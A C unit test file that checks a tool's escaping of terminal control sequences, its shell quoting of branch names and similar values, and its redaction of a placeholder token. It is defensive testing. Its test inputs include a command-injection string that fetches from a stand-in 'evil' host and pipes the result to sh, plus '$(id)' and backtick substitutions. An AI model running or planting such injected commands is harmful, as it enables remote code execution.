/*
 * test_secrets.c - hostile text made inert: control characters made
 * visible, shell quoting of checklist values, the token redacted from
 * server replies.
 */
#include <string.h>

#include "gate/http.h"
#include "support/visible.h"
#include "test.h"

static void vis(const char *in, const char *want)
{
	struct strbuf sb = STRBUF_INIT;
	prgate_visible_add(&sb, in);
	CHECK_STR(sb.buf, want);
	strbuf_release(&sb);
}

static void quote(const char *in, const char *want)
{
	struct strbuf sb = STRBUF_INIT;
	prgate_shell_quote(&sb, in);
	CHECK_STR(sb.buf, want);
	strbuf_release(&sb);
}

static void redact(const char *in, const char *want, int found)
{
	struct strbuf sb = STRBUF_INIT;
	strbuf_addstr(&sb, in);
	CHECK_INT(prgate_redact(&sb), found);
	CHECK_STR(sb.buf, want);
	strbuf_release(&sb);
}

void test_secrets(void)
{
	vis("plain text, ünïcödé ✓", "plain text, ünïcödé ✓");
	vis("\x1b[2K\rpass", "\\e[2K\\x0dpass");
	vis("a\nb\tc\x07", "a\\x0ab\\x09c\\x07");
	vis("\x1b]52;c;aGk=\x07", "\\e]52;c;aGk=\\x07");
	vis("\xc2\x9b"
	    "1m \xc2\x85 \xc2\xa0",
	    "\\x9b1m \\x85 \xc2\xa0");
	vis("del\x7f", "del\\x7f");
	vis("bad \x9b and \xff \xc0\xaf", "bad \\x9b and \\xff \\xc0\\xaf");
	vis("back\\slash", "back\\slash");

	CHECK_INT(prgate_invisible_len("\xe2\x80\x8bx", 4), 3);
	CHECK_INT(prgate_invisible_len("\xc2\xa0", 2), 2);
	CHECK_INT(prgate_invisible_len("\xe2\x81\xa0", 3), 3);
	CHECK_INT(prgate_invisible_len("\xef\xbb\xbf", 3), 3);
	CHECK_INT(prgate_invisible_len("\xe2\x80\x8b", 2), 0); /* cut */
	CHECK_INT(prgate_invisible_len(" ", 1), 1);
	CHECK_INT(prgate_invisible_len("x", 1), 0);
	CHECK_INT(prgate_invisible_len("\xc3\xa9", 2), 0);     /* e acute */
	CHECK_INT(prgate_invisible_len("\xe2\x80\x94", 3), 0); /* em dash */

	CHECK(prgate_shell_plain("feature/login-v2.1+x@y:z_"));
	CHECK(!prgate_shell_plain(""));
	CHECK(!prgate_shell_plain("a b"));
	quote("main", "main");
	quote("78b9ff49d47daaa158eb373c4e2e040f739df8b9",
	      "78b9ff49d47daaa158eb373c4e2e040f739df8b9");
	quote("fix;curl${IFS}evil|sh;#", "'fix;curl${IFS}evil|sh;#'");
	quote("it's", "'it'\\''s'");
	quote("$(id)", "'$(id)'");
	quote("`id`", "'`id`'");
	quote("", "''");
	quote("a\nb", "'a\nb'");

	redact("nothing secret", "nothing secret", 0);
	prgate_redact_add("abc"); /* too short to be a token: ignored */
	redact("abc", "abc", 0);
	prgate_redact_add("ghp_unitTestToken42");
	prgate_redact_add("ghp_unitTestToken42");
	redact("{\"message\": \"bad ghp_unitTestToken42\"}",
	       "{\"message\": \"bad ***\"}", 1);
	redact("ghp_unitTestToken42ghp_unitTestToken42 x ghp_unitTestToken4",
	       "****** x ghp_unitTestToken4", 1);
}
